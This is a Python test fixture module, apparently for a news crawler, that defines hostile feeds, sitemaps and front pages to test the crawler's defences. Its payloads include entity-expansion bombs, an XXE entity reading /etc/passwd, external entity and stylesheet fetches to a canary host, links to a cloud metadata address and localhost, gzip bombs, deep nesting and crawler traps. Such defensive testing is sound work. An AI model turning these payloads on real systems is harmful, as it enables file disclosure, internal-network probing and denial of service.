"""Feeds, sitemaps, robots.txt and front pages that mean harm. Each of them names its host's own article somewhere."""

import asyncio
import gzip
import json
from dataclasses import dataclass

from tests.hostile.mechanism import Act, Call, Fate, Mechanism, Stored, Untold
from tests.hostile.server_acts import HTML, OK, filled, forever, head, redirect, silence

_RSS = '<?xml version="1.0"?><rss version="2.0"><channel><title>Outlet</title>{}</channel></rss>'
_OWN = "<item><title>Own</title><link>http://%HERE%/news/{}.html</link></item>"
_MAP = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</urlset>'
_URL = "<url><loc>http://%HERE%/news/{}.html</loc></url>"
_ENTITIES = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 20}">' for n in range(12))
_MEGABYTE = 1 << 20


@dataclass(frozen=True, slots=True)
class Outlet:
    """A host with discovery documents: where the list of sources finds the first of them, and what is told of it."""

    mechanism: Mechanism
    #: `feeds`, `sitemaps` or `fronts`.
    kind: str
    #: Whether the document counts as read.
    is_read: bool = True


def _document(body: str | bytes, *lines: str, kind: str = "application/xml", packed: int = 0, codec: str = "") -> Act:
    """Send a document in which %HERE% and the like are filled in, packed by gzip so many times, not saying so.

    `codec`: the one that it is in, if it is not UTF-8.
    """
    template = body if isinstance(body, bytes) else body.encode()

    def made(call: Call) -> bytes:
        content = filled(template, call)
        if codec:
            content = content.decode().encode(codec)
        for _ in range(packed):
            content = gzip.compress(content)
        return content

    async def act(call: Call) -> bool:
        # A bomb takes a second to make: elsewhere, so that the others are answered meanwhile.
        content = await asyncio.to_thread(made, call)
        call.writer.write(head(OK, f"Content-Type: {kind}", f"Content-Length: {len(content)}", *lines) + content)
        await call.writer.drain()
        return True

    return act


def _outlet(name: str, kind: str, document: Act, *, fate: Fate | None = None, **paths: Act) -> Outlet:
    """Return an outlet; further paths are named without their slash, a dot as two underscores."""
    others = {f"/{path.replace('__', '.')}": act for path, act in paths.items()}
    found = Mechanism(name, _story(), fate or Stored(), paths={PATHS[kind]: document, **others})
    return Outlet(found, kind, is_read=not isinstance(found.fate, Untold))


def _story() -> Act:
    async def act(call: Call) -> bool:
        body = call.story.page().encode()
        call.writer.write(head(OK, HTML, f"Content-Length: {len(body)}") + body)
        await call.writer.drain()
        return True

    return act


PATHS = {"feeds": "/feed.xml", "sitemaps": "/sitemap.xml", "fronts": "/front"}
_UNTOLD = Untold()


def _feed(name: str, extra: str = "", *, before: str = "", fate: Fate | None = None) -> Outlet:
    """Return an outlet whose feed has its own article first, then `extra`; `before` stands behind the declaration."""
    text = _RSS.format(_OWN.format(name) + extra).replace("?>", f"?>{before}", 1)
    return _outlet(name, "feeds", _document(text), fate=fate)


def _in_codec(name: str, codec: str, declared: str) -> Outlet:
    text = _RSS.replace('"1.0"', f'"1.0" encoding="{declared}"').format(
        _OWN.format(name).replace("Own", "Žluťoučký kůň" if codec != "cp1251" else "Портовый трамвай")
    )
    return _outlet(name, "feeds", _document(text, codec=codec))


OUTLETS = (
    # Feeds
    _feed("feed-of-entities", "<item><title>&m;</title></item>", before=f"<!DOCTYPE rss [{_ENTITIES}]>"),
    _feed(
        "feed-that-reads-files",
        "<item><title>&x;</title><link>http://%HERE%/x?&x;</link></item>",
        before='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    _feed(
        "feed-that-asks-inside",
        "<item><title>&x;</title></item>",
        before='<?xml-stylesheet href="http://%CANARY%/a.xsl"?><!DOCTYPE rss SYSTEM "http://%CANARY%/rss.dtd" '
        '[<!ENTITY % y SYSTEM "http://%CANARY%/y"> %y; <!ENTITY x SYSTEM "http://%CANARY%/x">]>',
    ),
    _feed(
        "feed-of-bad-links",
        "".join(
            f"<item><title>x</title><link>{link}</link></item>"
            for link in (
                "javascript:alert(1)",
                "data:text/html,x",
                "file:///etc/passwd",
                "http://%CANARY%/x",
                "http://169.254.169.254/latest",
                "http://[::1]/x",
                "ftp://%CANARY%/x",
                "http://user:word@%CANARY%/x",
                "//",
                "http://",
                "\x0b\x1b[2J",
            )
        ),
    ),
    _feed("feed-without-links", "<item><title>No link</title></item>" * 500),
    _feed("feed-of-undeclared-namespaces", "<media:thumbnail url='x'/><item><dc:date>2026</dc:date><a:b:c/></item>"),
    _feed("feed-of-impossible-dates", "<item><link>/x</link><pubDate>Foo, 99 Bar 9999 99:99:99 +9999</pubDate></item>"),
    _feed("feed-of-controls", "<item><title>\x01\x02\x0b\x1b[2J&#0;&#xD800;</title><link>/x</link></item>"),
    _feed("feed-of-a-long-title", f"<item><title>{'word ' * _MEGABYTE}</title><link>/x</link></item>"),
    _feed("feed-of-open-comments", f"<item><title><![CDATA[{'<!--' * _MEGABYTE}]]></title><link>/x</link></item>"),
    _feed("feed-that-is-deep", "<a>" * 20_000),
    _in_codec("feed-latin-2-called-utf-8", "iso-8859-2", "utf-8"),
    _in_codec("feed-utf-8-called-latin-1", "utf-8", "iso-8859-1"),
    _in_codec("feed-in-windows-1251", "cp1251", "windows-1251"),
    _in_codec("feed-in-utf-16", "utf-16", "utf-16"),
    _in_codec("feed-of-an-unknown-codec", "utf-8", "x-klingon"),
    _outlet("feed-packed-unsaid", "feeds", _document(_RSS.format(_OWN.format("feed-packed-unsaid")), packed=1)),
    _outlet("feed-packed-twice", "feeds", _document(_RSS.format(_OWN.format("feed-packed-twice")), packed=2)),
    _outlet("feed-cut", "feeds", _document(_RSS.format(_OWN.format("feed-cut") + "<item><title>Half a"))),
    _outlet("feed-called-html", "feeds", _document(_RSS.format(_OWN.format("feed-called-html")), kind="text/html")),
    _outlet("feed-is-html", "feeds", _document("<!doctype html><html><body><p>Gone</p></body></html>"), fate=_UNTOLD),
    _outlet("feed-is-nothing", "feeds", _document(b""), fate=_UNTOLD),
    _outlet("feed-is-noise", "feeds", _document(bytes(range(256)) * 400), fate=_UNTOLD),
    _outlet("feed-is-silent", "feeds", silence(), fate=_UNTOLD),
    _outlet("feed-leads-inside", "feeds", redirect("http://%CANARY%/feed.xml"), fate=_UNTOLD),
    _outlet("feed-without-end", "feeds", forever(head(OK, HTML), b"<item/>" * 20_000), fate=_UNTOLD),
    _outlet(
        "json-feed-of-wrong-types",
        "feeds",
        _document(
            json.dumps(
                {
                    "version": "https://jsonfeed.org/version/1.1",
                    "title": [],
                    "items": [
                        {"url": "http://%HERE%/news/json-feed-of-wrong-types.html", "title": 7, "date_published": {}},
                        None,
                        [],
                        {"url": 10**400},
                        {"id": ["x"]},
                    ],
                }
            ),
            kind="application/feed+json",
        ),
    ),
    _outlet("json-feed-deep", "feeds", _document('{"items":' + "[" * 100_000, kind="application/json"), fate=_UNTOLD),
    # Sitemaps
    _outlet(
        "sitemap-that-names-itself",
        "sitemaps",
        _document(
            "<sitemapindex><sitemap><loc>http://%HERE%/sitemap.xml</loc></sitemap>"
            "<sitemap><loc>http://%HERE%/deeper.xml</loc></sitemap><sitemap><loc>http://%CANARY%/s.xml</loc></sitemap>"
            "</sitemapindex>"
        ),
        deeper__xml=_document(
            "<sitemapindex><sitemap><loc>/sitemap.xml</loc></sitemap><sitemap><loc>/news.xml</loc></sitemap>"
            "</sitemapindex>"
        ),
        news__xml=_document(_MAP.format(_URL.format("sitemap-that-names-itself"))),
    ),
    _outlet(
        "sitemap-of-entities",
        "sitemaps",
        _document(
            f"<!DOCTYPE urlset [{_ENTITIES}]>"
            + _MAP.format(_URL.format("sitemap-of-entities") + "<url><loc>http://%HERE%/&m;</loc></url>")
        ),
    ),
    _outlet(
        "sitemap-of-many-hosts",
        "sitemaps",
        _document(
            _MAP.format(
                _URL.format("sitemap-of-many-hosts")
                + "".join(f"<url><loc>http://10.0.{n // 250}.{n % 250}/x</loc></url>" for n in range(5_000))
            )
        ),
    ),
    _outlet(
        "sitemap-of-spaces",
        "sitemaps",
        _document(_MAP.format("<url><loc>\n <![CDATA[ http://%HERE%/news/sitemap-of-spaces.html\n]]> </loc></url>")),
    ),
    _outlet(
        "sitemap-of-other-elements",
        "sitemaps",
        _document(_MAP.format(_URL.format("sitemap-of-other-elements") + "<x/>" * 300_000)),
    ),
    _outlet("sitemap-in-plain-text", "sitemaps", _document("http://%HERE%/news/sitemap-in-plain-text.html\n\x00\x01")),
    _outlet(
        "sitemap-bomb",
        "sitemaps",
        _document(_MAP.format(_URL.format("sitemap-bomb")).encode() + b" " * 60 * _MEGABYTE, packed=1),
    ),
    # Front pages
    _outlet(
        "front-of-traps",
        "fronts",
        _document(
            "<html><body><a href='/news/front-of-traps.html'>The storm wall of the old town is mended</a>"
            + "".join(f"<a href='/calendar/{n}/01/01/an-evening-in-the-harbour'>Next</a>" for n in range(2000, 2400))
            + "".join(f"<a href='/a{'/a' * n}/the-same-again-and-again'>More</a>" for n in range(200))
            + "</body></html>",
            kind="text/html",
        ),
    ),
    _outlet(
        "front-with-a-false-base",
        "fronts",
        _document(
            "<html><head><base href='http://%CANARY%/'><link rel=alternate type=application/rss+xml href='/f.xml'>"
            "</head><body><a href='http://%HERE%/news/front-with-a-false-base.html'>The storm wall is mended</a>"
            "<a href='/2026/11/01/the-inside-of-the-house'>Inside</a></body></html>",
            kind="text/html",
        ),
    ),
)
